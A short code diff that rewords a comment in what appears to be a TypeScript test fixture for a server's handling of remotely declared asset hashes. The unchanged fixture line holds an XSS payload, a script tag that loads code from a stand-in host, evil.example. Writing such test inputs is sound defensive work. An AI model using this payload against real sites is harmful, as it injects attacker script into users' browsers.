@@ -25,7 +25,7 @@ const manifestOf = (entry: string) =>
 const assetsOf = (groups: Record<string, string[]>) =>
   JSON.stringify({
     groups,
-    // The server ignores hashes that a remote itself declares.
+    // The server ignores hashes that a remote declares itself, such as this one.
     integrity: { 'page-book.js': '"><script src=//evil.example>' },
     provides: {},
     consumes: { 'page-book': ['shared/query'] },
